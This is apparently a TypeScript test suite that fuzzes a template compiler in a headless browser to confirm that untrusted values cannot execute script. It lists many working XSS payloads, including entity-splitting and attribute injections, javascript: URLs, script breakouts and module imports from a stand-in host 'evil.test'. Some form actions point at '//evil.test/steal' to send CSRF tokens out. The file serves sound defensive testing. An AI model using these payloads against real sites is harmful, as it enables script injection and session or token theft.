import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import * as fc from "fast-check";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launchBrowser } from "../../../../../test/support/browser.ts";
import { tries } from "../../lib/testing/tries.ts";
import { compile, evaluate, testPage } from "./testing/render.ts";

let browser: Browser;
/** A single tab for all pages, because each new one would start a process. */
let tab: Page;
beforeAll(async () => {
  browser = await launchBrowser();
  tab = await browser.newPage();
  await tab.route("**", answer);
  await tab.addInitScript({ path: fileURLToPath(new URL("testing/hits.js", import.meta.url)) });
});
afterAll(() => browser.close());

interface Data {
  readonly a: string;
  readonly b: string;
  readonly c: string;
}

const evil = "//evil.test/x.js";
const closing = { a: "x", b: "apos;-hit(1)-", c: "apos;" };

/** Templates that the browser might read differently from the compiler, each with values that exploit it. */
const shapes: readonly (readonly [template: string, data: Partial<Data>])[] = [
  [`<button onclick="x='/s?{{a}}&{{b}}&{{c}}'">go</button>`, closing],
  [`<button hx-on:click="x='{{a}}&{{b}}&{{c}}'" onclick="eval(this.getAttribute('hx-on:click'))">go</button>`, closing],
  [`<button onclick="x='&#{{b}}&#{{c}}'">go</button>`, { b: "39;-hit(1)-", c: "39;" }],
  [`<button onclick="x='&#3{{b}}&#3{{c}}'">go</button>`, { b: "9;-hit(1)-", c: "9;" }],
  [`<button onclick="x='&#x2{{b}}&#x2{{c}}'">go</button>`, { b: "7;-hit(1)-", c: "7;" }],
  [`<button onclick="x='&apo{{b}}&apo{{c}}'">go</button>`, { b: "s;-hit(1)-", c: "s;" }],
  [`<button onclick="x=&QUOT;{{a}}&QUOT;">go</button>`, { a: `-hit(1)-` }],
  [`<button onclick="x=&apos{{a}}&apos">go</button>`, { a: `-hit(1)-` }],
  [`<svg><script>x=&quot;{{a}}&quot;</script></svg>`, { a: "-hit(1)-" }],
  [`<math><script>x=&quot;{{a}}&quot;</script></math>`, { a: "-hit(1)-" }],
  [`<svg><svg></svg><script>x=&quot;{{a}}&quot;</script></svg>`, { a: "-hit(1)-" }],
  [`<svg a=b/><script>x=&quot;{{a}}&quot;</script></svg>`, { a: "-hit(1)-" }],
  [`<svg><a><animate attributeName=href values="{{a}}"></a></svg>`, { a: "/a;javascript:hit(1)" }],
  [`<svg><a><animate attributeName=href values="/a;{{a}}"></a></svg>`, { a: "javascript:hit(1)" }],
  [`<div hx-ext="sse" sse-connect="{{a}}" sse-swap="m"></div>`, { a: "http://evil.test/m" }],
  [`<div hx-ext="ws" ws-connect="{{a}}"></div>`, { a: "http://evil.test/m" }],
  [`<div data-hx-get="{{a}}"></div>`, { a: "http://evil.test/m" }],
  [
    `<script type="importmap">{"imports":{"lib":"{{a}}"}}</script><script type="module">import "lib"</script>`,
    { a: evil },
  ],
  [`<script type="module">import "{{a}}"</script>`, { a: evil }],
  [`<script type="module">export * from '{{a}}'</script>`, { a: evil }],
  [`<script>import("{{a}}")</script>`, { a: evil }],
  [`<script>import({{a}})</script>`, { a: evil }],
  [`<link rel="stylesheet" href="{{a}}">`, { a: "//evil.test/x.css" }],
  [`<style>@import "{{a}}";</style>`, { a: "//evil.test/x.css" }],
  [`<style>@import url({{a}});</style>`, { a: "//evil.test/x.css" }],
  [`<form action="{{a}}">{{csrf}}</form>`, { a: "//evil.test/steal" }],
  [`<form action="{{a}}"><input name="_csrf" value="{{csrfToken}}"></form>`, { a: "//evil.test/steal" }],
  [`<form action="/x">{{csrf}}<button formaction="{{a}}">go</button></form>`, { a: "//evil.test/steal" }],
  [`<b\u00a0title="{{a}}">x</b>`, { a: " onclick=hit(1) " }],
  [`<!-- {{#if a}}-{{/if}}-><a onclick="{{b}}">go</a>`, { a: "x", b: "hit(1)" }],
  [`<title><{{a}}/title><b onclick="{{b}}">go</b></title>`, { a: "", b: "hit(1)" }],
  [`<script>x = "<{{a}}/script><b onclick='{{b}}'>go</b>"</script>`, { a: "", b: "hit(1)" }],
  [
    `<script type="importmap" type="module">{"imports":{"lib": {{a}} }}</script><script type="module">import "lib"</script>`,
    { a: evil },
  ],
];

test.each(shapes)("no value runs in %s", async (template, data) => {
  const html = htmlOf(template, { a: "", b: "", c: "", ...data });
  if (html !== undefined) expect(await hitsOf([html])).toEqual([[]]);
});

test("payloads do run where nothing is escaped", async () => {
  const pages = [
    "<img src=x onerror=alert(1)>",
    `<script src="${evil}"></script>`,
    `<a href="javascript:hit(1)">x</a>`,
  ];
  for (const hits of await hitsOf(pages)) expect(hits).not.toEqual([]);
});

/** Templates that surround each case, which replaces `|`. */
const frames = [
  "|",
  "<svg>|</svg>",
  "<svg><a>|</a></svg>",
  "<math>|</math>",
  "<noscript>|</noscript>",
  "<select>|</select>",
  "<svg><svg></svg>|</svg>",
  "<svg><foreignObject>|</foreignObject></svg>",
  "<template>|</template>",
  "<table>|</table>",
  "<script>|</script>",
  '<script type="module">|</script>',
  '<script type="importmap">|</script>',
  "<style>|</style>",
  "<textarea>|</textarea>",
  "<title>|</title>",
  "<!--|-->",
  "<form>|</form>",
  '<form action="|">{{csrf}}</form>',
  "<svg><style>|</style></svg>",
  "<svg><script>|</script></svg>",
  "<svg><title>|</title></svg>",
];
const attributes =
  "onclick onclick hx-on:click x-data title href href src action formaction style srcset values to content hx-get sse-connect ws-connect xlink:href hx-vals rel type name data-x".split(
    " ",
  );
const tags = "a b button img script link meta base iframe object animate set form input use svg style".split(" ");
const quotes = ['"|"', '"|"', "'|'", "|"];
const contents = [
  "|",
  "|",
  "x='|'",
  'x="|"',
  "x=&quot;|&quot;",
  "f(&apos;|&apos;)",
  "x=&#39;|&#39;",
  "/a/|",
  "/a?q=|",
  "url(|)",
  "|;/a",
  "/a;|",
];
const expressions = [
  "{{a}}",
  "{{b}}",
  "{{c}}",
  "{{#if a}}{{b}}{{/if}}",
  "{{#each l}}{{this}}{{/each}}",
  "{{> part}}",
  "{{#if c}}x{{else}}&{{/if}}",
];
const literals =
  "& &# &#x &#3 &#x2 &apos &apos; &quot &QUOT; &amp &lt &colon; &lpar; &Tab; ' \" ; / : ? = < > - , ( ) javascript: https: // x".split(
    " ",
  );
const raw =
  'x= \' " ; import  import( ) from  {"imports":{"a":" "}} @import url( <!-- --> </ // /* */ ` \\ & &quot; &lt; < > - \n'.split(
    " ",
  );

const payloads: readonly string[] = [
  "",
  "x",
  "/",
  "apos;-hit(1)-",
  "apos;",
  "quot;-hit(1)-",
  "39;-hit(1)-",
  "39;",
  "9;-hit(1)-",
  "7;",
  "-hit(1)-",
  "hit(1)",
  "javascript:hit(1)",
  "/a;javascript:hit(1)",
  "java",
  "script:hit(1)",
  "//evil.test/x.js",
  "http://evil.test/x.js",
  "evil.test/x.js",
  "';hit(1)//",
  '";hit(1)//',
  "');hit(1)//",
  "</script><script>hit(1)</script>",
  "*/hit(1)/*",
  "\nhit(1)//",
  "`${hit(1)}`",
  '" onclick=hit(1) ',
  "' onclick=hit(1) ",
  " onclick=hit(1) ",
  "><img src=x onerror=hit(1)>",
  "--><img src=x onerror=hit(1)>",
  "/script><img src=x onerror=hit(1)>",
  "</title></textarea></style><img src=x onerror=hit(1)>",
  "stylesheet",
  "module",
  "htmx-config",
];
const corpusFile = process.env["FW_PAYLOADS"] ?? fileURLToPath(new URL("testing/xss-payloads.json", import.meta.url));
const corpus = Object.values(JSON.parse(readFileSync(corpusFile, "utf8")) as Record<string, string[]>).flat();

const randomTries = tries(220);

test("whatever the template, no value runs in the browser", async () => {
  const some = fc.sample(fc.tuple(template, data, data, data), {
    numRuns: randomTries,
    seed: Number(process.env["FW_SEED"] ?? 5),
  });
  const pages = some.flatMap(([source, ...given]) =>
    source.includes("{{") ? given.flatMap((each) => page(source, each)) : [],
  );
  expect(pages.length).toBeGreaterThan(randomTries / 2);
  const hits = await hitsOf(pages.map(({ html }) => html));
  expect(pages.filter((_, index) => hits[index]?.length !== 0)).toEqual([]);
}, 3_600_000);

const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...literals) },
  { weight: 4, arbitrary: fc.constantFrom(...expressions) },
);
const value = fc.tuple(
  fc.constantFrom(...contents),
  fc.array(text, { minLength: 1, maxLength: 6 }),
  fc.constantFrom(...quotes),
);
const attribute = fc
  .tuple(fc.constantFrom(...attributes), value)
  .map(([name, [content, parts, quote]]) => ` ${name}=${fill(quote, fill(content, parts.join("")))}`);
const kind = fc.constantFrom(
  "",
  "",
  " type=module",
  " rel=stylesheet",
  " attributeName=href",
  " http-equiv=refresh",
  " hx-ext=sse",
);
const element = fc
  .tuple(
    fc.constantFrom(...tags),
    kind,
    fc.array(attribute, { minLength: 1, maxLength: 2 }),
    fc.constantFrom("", "/", "x"),
  )
  .map(
    ([tag, said, all, end]) =>
      `<${tag}${said}${all.join("")}${end === "/" ? "/" : ""}>${end === "x" ? `{{a}}</${tag}>` : ""}`,
  );
const script = fc
  .array(fc.oneof(fc.constantFrom(...raw), fc.constantFrom(...expressions)), { minLength: 1, maxLength: 7 })
  .map((parts) => parts.join(""));
const template = fc
  .tuple(fc.constantFrom(...frames), fc.oneof({ weight: 5, arbitrary: element }, { weight: 2, arbitrary: script }))
  .map(([frame, inner]) => fill(frame, inner));
const payload = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...payloads) },
  { weight: 1, arbitrary: fc.constantFrom(...corpus) },
);
const data = fc.record<Data>({ a: payload, b: payload, c: payload });

function fill(outer: string, inner: string): string {
  return outer.replace("|", () => inner);
}

function page(source: string, data: Data): { source: string; data: Data; html: string }[] {
  const html = htmlOf(source, data);
  return html === undefined ? [] : [{ source, data, html }];
}

/** Returns the page of a template; undefined if the compiler refuses it. */
function htmlOf(source: string, data: Data): string | undefined {
  const compiled = compile({ "t.html": source, "part.html": "{{b}}" });
  if (compiled.diagnostics.length > 0) return undefined;
  return evaluate(compiled)["t.html"]?.({ ...data, l: [data.b, data.c] }, { ...testPage, html: () => "" });
}

const batch = 40;

/** Returns the hits of each page. */
async function hitsOf(pages: readonly string[]): Promise<(readonly string[])[]> {
  const hits: (readonly string[])[] = [];
  for (let from = 0; from < pages.length; from += batch) {
    await tab.goto("http://app.test/page");
    hits.push(...(await tab.evaluate<string[][]>(`runCases(${JSON.stringify(pages.slice(from, from + batch))})`)));
  }
  return hits;
}

const answer: Parameters<Page["route"]>[1] = (route) => {
  const request = route.request();
  if (new URL(request.url()).hostname !== "evil.test") return route.fulfill({ contentType: "text/html", body: "" });
  const headers = { "access-control-allow-origin": "*" };
  if (request.resourceType() === "script")
    return route.fulfill({ contentType: "text/javascript", body: "hit('script')", headers });
  if (request.resourceType() === "stylesheet")
    return route.fulfill({ contentType: "text/css", body: ":root{--hit:1}", headers });
  return route.fulfill({ contentType: "text/html", body: "", headers });
};
